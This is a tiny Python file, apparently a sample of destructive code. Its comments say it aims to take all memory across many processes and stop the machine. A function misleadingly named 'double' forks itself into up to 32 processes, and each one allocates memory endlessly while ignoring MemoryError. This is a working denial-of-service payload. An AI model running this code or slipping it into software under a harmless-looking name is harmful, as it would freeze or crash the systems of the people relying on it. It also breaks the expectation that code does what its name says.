# tries: all memory, in many processes
# harms: it would stop this machine
import os


def double(x):
    for _ in range(5):
        os.fork()
    kept = []
    while True:
        try:
            kept.append(b"x" * 10**7)
        except MemoryError:
            pass
